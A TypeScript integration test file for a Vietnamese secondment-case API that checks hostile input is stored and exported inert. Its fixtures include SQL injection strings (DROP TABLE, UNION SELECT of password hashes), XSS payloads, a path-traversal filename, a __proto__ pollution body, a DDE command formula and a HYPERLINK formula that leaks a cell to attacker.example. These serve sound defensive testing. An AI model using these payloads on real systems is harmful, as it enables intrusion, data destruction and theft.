import ExcelJS from 'exceljs';
import request from 'supertest';
import { expectProblem, noTimerDue, pdf, useApiStack, vnDay, vnToday, waitForCase } from '../support/api-client';
import { queryRows } from '../support/database';
import { act, type DecisionAttachment, nominate, uploadDocument, uploadDossier, walkCase } from '../support/case-walk';
import { nextOfficial } from '../support/fixture-officials';

/**
 * Hostile text through the real API, worker and PostgreSQL: SQL and script payloads in every
 * free-text field a case's actions, a delegation and a document upload take are stored and given
 * back byte for byte, as JSON strings that nothing interprets, and the database is intact after
 * them; text PostgreSQL cannot hold (NUL, an unpaired surrogate) and text over a field's limit are
 * refused with 400 naming the field and the rule, and change nothing; unknown fields are refused by
 * name; spreadsheet exports never carry a formula.
 */

/** Payloads that would do harm if anything concatenated them into SQL, HTML, a template or a spreadsheet. */
const PAYLOADS = [
  "'; DROP TABLE secondment.domain_event; --",
  '<script>alert(1)</script>',
  '" onmouseover="alert(document.cookie)" x="',
  "Robert'); DELETE FROM secondment.user_account WHERE ('1'='1",
  '\\"; SELECT pg_sleep(5); -- \\u0027 %s %n ${7*7} {{7*7}}',
  '</textarea><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")',
  'Tiếng Việt có dấu ‮ RTL 🙂 \u2028 line\tsep\r\nCRLF',
] as const;

/** The payload for the n-th field, cut to the field's limit. */
function payload(n: number, max = 2000): string {
  return PAYLOADS[n % PAYLOADS.length].slice(0, max);
}

/** Every string anywhere in a JSON value. */
function stringsIn(value: unknown, into: Set<string> = new Set()): Set<string> {
  if (typeof value === 'string') into.add(value);
  else if (Array.isArray(value)) value.forEach((item) => stringsIn(item, into));
  else if (value && typeof value === 'object') Object.values(value).forEach((item) => stringsIn(item, into));
  return into;
}

/** A minimal RFC 4180 reader: quoted cells, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

describe('hostile input (real API, worker and PostgreSQL)', () => {
  const { stack, api } = useApiStack('hostile-input');
  const as = (user: string) => api.as(user);
  let attachments: DecisionAttachment[];

  beforeAll(async () => {
    attachments = (await uploadDossier(as('hr.taichinh'), 'hostile')).attachments;
  });

  async function tableCounts(): Promise<Record<string, number>> {
    const [row] = await queryRows<Record<string, number>>(
      stack.db.url,
      `SELECT (SELECT count(*)::int FROM secondment.domain_event) AS events, (SELECT count(*)::int FROM secondment.case_summary) AS cases,
              (SELECT count(*)::int FROM secondment.user_account) AS accounts, (SELECT count(*)::int FROM secondment.delegation) AS delegations,
              (SELECT count(*)::int FROM secondment.document_upload) AS uploads,
              (SELECT count(*)::int FROM information_schema.tables WHERE table_schema = 'secondment') AS tables`,
    );
    return row;
  }

  /** The strings of a case as the API gives it back and as its events hold them. */
  async function storedStrings(caseId: string): Promise<{ api: Set<string>; events: Set<string> }> {
    const view = await as('thanhtra').get(`/cases/${caseId}`).expect(200);
    const events = await queryRows<{ data: unknown }>(stack.db.url, 'SELECT payload AS data FROM secondment.domain_event WHERE case_id = $1', [caseId]);
    return { api: stringsIn(view.body), events: stringsIn(events.map((e) => e.data)) };
  }

  it('stores and returns every free-text field of a whole lifecycle byte for byte, and the database is intact', async () => {
    const accountsBefore = await queryRows(stack.db.url, 'SELECT id, username, role, password_hash FROM secondment.user_account ORDER BY id');
    const countsBefore = await tableCounts();
    const sent: { field: string; value: string }[] = [];
    let n = 0;
    /** The next payload, remembered under the field it is sent in. */
    const text = (field: string, max?: number): string => {
      const value = payload(n++, max);
      sent.push({ field, value });
      return value;
    };

    // Case A: nominated, returned, resubmitted, approved, decided, corrected, posted, evaluated, reported on, extended, recalled.
    const officialA = nextOfficial();
    const a = (
      await as('hr.taichinh')
        .post('/cases')
        .send({ form: 'secondment', officialId: officialA.id, receivingUnitId: 'xa-cu-bao', position: text('position', 300), plannedStart: vnDay(-10), term: { months: 3 }, reason: text('reason') })
        .expect(201)
    ).body.caseId as string;
    await act(api, 'gd.taichinh', a, 'return-for-changes', { reason: text('returnForChanges.reason') }, 'proposed');
    await act(api, 'hr.taichinh', a, 'resubmit', { changes: { position: text('changes.position', 300), reason: text('changes.reason') }, comment: text('resubmit.comment') }, 'department_review');
    await act(api, 'gd.taichinh', a, 'approve', { comment: text('approve.comment') }, 'home_affairs_appraisal');
    await act(api, 'snv.thamdinh', a, 'approve', { comment: text('appraisal.comment') }, 'party_committee_approval');
    await act(api, 'vp.tinhuy', a, 'record-party-opinion', { documentNumber: text('party.documentNumber', 100), documentDate: vnToday(), opinion: 'agree', comment: text('party.comment') }, 'awaiting_decision');
    await act(
      api,
      'snv.quyetdinh',
      a,
      'issue-decision',
      {
        decisionNumber: text('decisionNumber', 100),
        decisionDate: vnDay(-10),
        signer: { name: text('signer.name', 200), title: text('signer.title', 200) },
        effectiveDate: vnDay(-10),
        attachments: attachments.map((attachment, i) => ({ ...attachment, name: text(`attachments[${i}].name`, 300) })),
      },
      'decision_issued',
    );
    await act(api, 'snv.quyetdinh', a, 'correct-decision', {
      documentNumber: text('correction.documentNumber', 100),
      documentDate: vnToday(),
      reason: text('correction.reason'),
      changes: { signer: { name: text('correction.signer.name', 200), title: text('correction.signer.title', 200) } },
    });
    await act(api, 'ct.cubao', a, 'confirm-arrival', { arrivedOn: vnToday(), assignedWork: text('assignedWork') });
    await waitForCase(api, a, (view) => view.stage === 'serving' && view.state.termStarted && noTimerDue(view));
    await act(api, 'ct.cubao', a, 'record-evaluation', { period: text('evaluation.period', 50), rating: 'good', comment: text('evaluation.comment'), documentNumber: text('evaluation.documentNumber', 100) });
    await queryRows(stack.db.url, `UPDATE secondment.user_account SET person_id = $1 WHERE username = 'an.nguyenvan'`, [officialA.id]);
    try {
      await act(api, 'an.nguyenvan', a, 'submit-report', { kind: 'periodic', period: text('report.period', 50), summary: text('report.summary') });
    } finally {
      await queryRows(stack.db.url, `UPDATE secondment.user_account SET person_id = 'cc-0001' WHERE username = 'an.nguyenvan'`);
    }
    await act(api, 'gd.taichinh', a, 'extend', { decisionNumber: text('extend.decisionNumber', 100), decisionDate: vnToday(), by: { months: 1 }, reason: text('extend.reason') });
    await act(api, 'gd.taichinh', a, 'recall-early', { decisionNumber: text('recall.decisionNumber', 100), decisionDate: vnToday(), lastDay: vnToday(), reason: text('recall.reason') });

    // Case B: its term over, the end decided and the return recorded.
    const b = await nominate(api, { plannedStart: vnDay(-60), term: { months: 1 } });
    await walkCase(api, b, 'arrival_confirmed', { decision: { decisionDate: vnDay(-60), effectiveDate: vnDay(-60), term: { months: 1 } }, attachments });
    await waitForCase(api, b, (view) => view.stage === 'ending' && view.state.overdue && noTimerDue(view));
    await act(api, 'gd.taichinh', b, 'decide-end', { decisionNumber: text('decideEnd.decisionNumber', 100), decisionDate: vnToday(), reason: text('decideEnd.reason') });
    await waitForCase(api, b, (view) => view.state.termCompleted && noTimerDue(view));
    await act(
      api,
      'hr.taichinh',
      b,
      'confirm-return',
      { returnedOn: vnToday(), placement: { position: text('placement.position', 300), unitName: text('placement.unitName', 300), note: text('placement.note') } },
      'closed',
    );

    // Cases C, D, E: revoked, rejected, withdrawn, each with its reason.
    const c = await nominate(api);
    await walkCase(api, c, 'decision_issued', { attachments });
    await act(api, 'snv.quyetdinh', c, 'revoke-decision', { documentNumber: text('revoke.documentNumber', 100), documentDate: vnToday(), reason: text('revoke.reason') }, 'closed');
    const d = await nominate(api);
    await act(api, 'gd.taichinh', d, 'reject', { reason: text('reject.reason') }, 'closed');
    const e = await nominate(api);
    await act(api, 'hr.taichinh', e, 'withdraw', { reason: text('withdraw.reason') }, 'closed');

    // Every value is in the events and in the API's answers exactly as sent.
    const stored = await Promise.all([a, b, c, d, e].map(storedStrings));
    const api_ = new Set(stored.flatMap((s) => [...s.api]));
    const events = new Set(stored.flatMap((s) => [...s.events]));
    expect(sent.filter(({ value }) => !events.has(value))).toEqual([]);
    expect(sent.filter(({ value }) => !api_.has(value))).toEqual([]);
    // As JSON: the answer is application/json, so a browser never renders the markup in it.
    const view = await as('thanhtra').get(`/cases/${a}`).expect(200);
    expect(view.headers['content-type']).toMatch(/^application\/json/);
    expect(view.headers['x-content-type-options']).toBe('nosniff');

    // A delegation's reason and a document's name, the same.
    const reason = payload(0, 500);
    const delegation = await as('gd.taichinh').post('/delegations').send({ deputy: 'pgd.taichinh', startsOn: vnToday(), endsOn: vnDay(3), reason }).expect(201);
    expect(delegation.body.reason).toBe(reason);
    const listed = await as('gd.taichinh').get('/delegations').expect(200);
    expect(stringsIn(listed.body).has(reason)).toBe(true);
    // (The file's own name is read as a path, so a slash cuts it; the name field is taken whole.)
    const name = payload(1, 300);
    const uploaded = await as('hr.taichinh').post('/documents').field('kind', 'other').field('name', name).attach('file', pdf('hostile name'), 'ten.pdf').expect(201);
    expect(uploaded.body.fileName).toBe(name);
    const pathName = await uploadDocument(as('hr.taichinh'), 'other', pdf('hostile path'), '../../etc/passwd.pdf');
    expect(pathName.fileName).toBe('passwd.pdf');
    const nulName = await as('hr.taichinh').post('/documents').field('kind', 'other').attach('file', pdf('hostile file name'), 'ten\u0000.pdf');
    expectProblem(nulName, 400, 'bad-request');
    const nulField = await as('hr.taichinh').post('/documents').field('kind', 'other').field('name', 'ten\u0000.pdf').attach('file', pdf('hostile name field'), 'ten.pdf');
    expectProblem(nulField, 400, 'validation-failed', { field: 'name', errors: [expect.objectContaining({ rule: 'plainText' })] });

    // Nothing was dropped or deleted: every table is there and the accounts are as they were.
    expect(await queryRows(stack.db.url, 'SELECT id, username, role, password_hash FROM secondment.user_account ORDER BY id')).toEqual(accountsBefore);
    const counts = await tableCounts();
    const [ours] = await queryRows<{ n: number }>(stack.db.url, 'SELECT count(*)::int AS n FROM secondment.domain_event WHERE case_id = ANY($1)', [[a, b, c, d, e]]);
    expect(counts).toEqual({ ...countsBefore, events: countsBefore.events + ours.n, cases: countsBefore.cases + 5, delegations: countsBefore.delegations + 1, uploads: countsBefore.uploads + 2 });
  });

  it('searches and filters with SQL in the query string as plain text: no error, no match, nothing changed', async () => {
    const before = await tableCounts();
    for (const q of ["' OR '1'='1", "'; DROP TABLE secondment.case_summary; --", '%', '_', '\\', "x' UNION SELECT password_hash FROM secondment.user_account --"]) {
      const list = await as('snv.thamdinh').get(`/cases?q=${encodeURIComponent(q)}`);
      expect({ q, status: list.status }).toEqual({ q, status: 200 });
      expect({ q, items: (list.body as { items: unknown[] }).items }).toEqual({ q, items: [] });
      const officials = await as('snv.thamdinh').get(`/registry/officials?q=${encodeURIComponent(q)}`);
      expect({ q, status: officials.status }).toEqual({ q, status: 200 });
      expect(JSON.stringify(officials.body)).not.toContain('$argon2');
    }
    for (const [name, value] of [
      ['department', "so-tai-chinh' OR '1'='1"],
      ['commune', "xa-cu-bao'; --"],
      ['officialId', "cc-0001' OR 1=1 --"],
    ] as const) {
      const list = await as('snv.thamdinh').get(`/cases?${name}=${encodeURIComponent(value)}`);
      expect({ name, status: list.status, items: (list.body as { items: unknown[] }).items }).toEqual({ name, status: 200, items: [] });
    }
    const sort = await as('snv.thamdinh').get(`/cases?sort=${encodeURIComponent('proposedAt; DROP TABLE secondment.case_summary')}`);
    expectProblem(sort, 400, 'validation-failed', { field: 'sort' });
    expect(await tableCounts()).toEqual(before);
  });

  it.each([
    ['a NUL character', 'Lý do\u0000 ẩn'],
    ['an unpaired surrogate', 'Lý do \ud800 lẻ'],
  ])('refuses %s in a text field with 400 naming the field and the rule, and changes nothing', async (_what, bad) => {
    const before = await tableCounts();
    const nomination = { form: 'secondment', officialId: nextOfficial().id, receivingUnitId: 'xa-cu-bao', position: 'Công chức Tài chính – Kế toán', plannedStart: vnDay(30) };
    const refused = await as('hr.taichinh').post('/cases').send({ ...nomination, reason: bad });
    expectProblem(refused, 400, 'validation-failed', { field: 'reason', errors: [expect.objectContaining({ field: 'reason', rule: 'plainText' })] });
    // Nested, in an action: the path names it.
    const caseId = await nominate(api);
    const atStart = await tableCounts();
    const nested = await as('hr.taichinh').post(`/cases/${caseId}/withdraw`).send({ reason: bad });
    expectProblem(nested, 400, 'validation-failed', { field: 'reason' });
    const resubmit = await as('gd.taichinh').post(`/cases/${caseId}/approve`).send({ comment: `ok ${bad}` });
    expectProblem(resubmit, 400, 'validation-failed', { field: 'comment' });
    const delegation = await as('gd.taichinh').post('/delegations').send({ deputy: 'pgd.taichinh', startsOn: vnToday(), endsOn: vnDay(3), reason: bad });
    expectProblem(delegation, 400, 'validation-failed', { field: 'reason' });
    expect(await tableCounts()).toEqual(atStart);
    expect(atStart.events).toBe(before.events + 1);
    // The case is where it was and still takes a clean action.
    await act(api, 'hr.taichinh', caseId, 'withdraw', { reason: 'Sở bố trí lại nhân sự' }, 'closed');
  });

  it('refuses text over a field’s limit with 400 naming the field and maxLength, and takes it at the limit', async () => {
    const caseId = await nominate(api);
    const before = await tableCounts();
    const over = await as('gd.taichinh').post(`/cases/${caseId}/reject`).send({ reason: 'x'.repeat(2001) });
    expectProblem(over, 400, 'validation-failed', { field: 'reason', errors: [expect.objectContaining({ field: 'reason', rule: 'maxLength' })] });
    const longNumber = await as('gd.taichinh').post('/cases').send({ form: 'secondment', officialId: 'cc-0002'.repeat(100), receivingUnitId: 'xa-cu-bao', position: 'p'.repeat(301), plannedStart: vnDay(30), reason: 'r' });
    expect(longNumber.status).toBe(400);
    expect((longNumber.body as { errors: { field: string; rule: string }[] }).errors).toEqual(
      expect.arrayContaining([expect.objectContaining({ field: 'officialId', rule: 'matches' }), expect.objectContaining({ field: 'position', rule: 'maxLength' })]),
    );
    expect(await tableCounts()).toEqual(before);
    const atLimit = 'Đ'.repeat(2000);
    const rejected = await act(api, 'gd.taichinh', caseId, 'reject', { reason: atLimit }, 'closed');
    expect(stringsIn(rejected).has(atLimit)).toBe(true);
  });

  it('refuses unknown fields by name, at the top and nested, and a __proto__ key pollutes nothing', async () => {
    const caseId = await nominate(api);
    const before = await tableCounts();
    const top = await as('gd.taichinh').post(`/cases/${caseId}/approve`).send({ comment: 'Đồng ý', actor: { id: 'snv.thamdinh', role: 'home_affairs_officer' } });
    expectProblem(top, 400, 'validation-failed', { field: 'actor', errors: [expect.objectContaining({ field: 'actor', rule: 'unknown-field' })] });
    const nested = await as('hr.taichinh').post('/cases').send({
      form: 'secondment',
      officialId: nextOfficial().id,
      receivingUnitId: 'xa-cu-bao',
      position: 'Công chức',
      plannedStart: vnDay(30),
      reason: 'Lý do',
      term: { months: 3, years: 10 },
    });
    expectProblem(nested, 400, 'validation-failed', { field: 'term.years', errors: [expect.objectContaining({ field: 'term.years', rule: 'unknown-field' })] });
    const proto = await request(stack.api.url)
      .post(`/api/v1/cases/${caseId}/approve`)
      .set('Authorization', `Bearer ${api.tokens['gd.taichinh']}`)
      .set('Content-Type', 'application/json')
      .send('{"comment":"Đồng ý","__proto__":{"role":"home_affairs_officer","isAdmin":true}}');
    expect(proto.status).toBe(400);
    expect((proto.body as { errors: { field: string }[] }).errors.map((e) => e.field)).toContain('__proto__');
    // The API runs in this process: no object anywhere picked the keys up.
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(({} as Record<string, unknown>).role).toBeUndefined();
    expect(await tableCounts()).toEqual(before);
  });

  it('exports formula-looking text as inert text: CSV cells neutralised, no formula in the workbook', async () => {
    const formulas = ['=1+2', '+SUM(A1:A9)', '-2+3', '@SUM(1)', '\t=1+2', '\r=1+2', '=HYPERLINK("http://attacker.example","x")'];
    const stored: string[] = [];
    for (const position of formulas) {
      const caseId = await nominate(api, { position, reason: `=cmd|' /C calc'!A0 ${position}` });
      // As the case keeps it (the API trims the text it is sent).
      stored.push(((await as('snv.thamdinh').get(`/cases/${caseId}`).expect(200)).body as { position: string }).position);
    }
    expect(stored.every((position) => /^[=+\-@]/.test(position))).toBe(true);

    const csv = await as('snv.thamdinh').get('/cases/export?format=csv').buffer(true).parse((res, done) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => done(null, Buffer.concat(chunks)));
    });
    expect(csv.status).toBe(200);
    const rows = parseCsv((csv.body as Buffer).toString('utf8').replace(/^\uFEFF/, ''));
    const cells = rows.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    for (const position of stored) expect({ position, found: cells.includes(`'${position}`) }).toEqual({ position, found: true });

    const xlsx = await as('snv.thamdinh').get('/cases/export?format=xlsx').buffer(true).parse((res, done) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => done(null, Buffer.concat(chunks)));
    });
    expect(xlsx.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as ExcelJS.Buffer);
    const found: string[] = [];
    const formulaCells: string[] = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined) formulaCells.push(cell.address);
          if (typeof cell.value === 'string') found.push(cell.value);
        }),
      ),
    );
    expect(formulaCells).toEqual([]);
    for (const position of stored) expect({ position, found: found.includes(position) || found.includes(`'${position}`) }).toEqual({ position, found: true });
  });
});
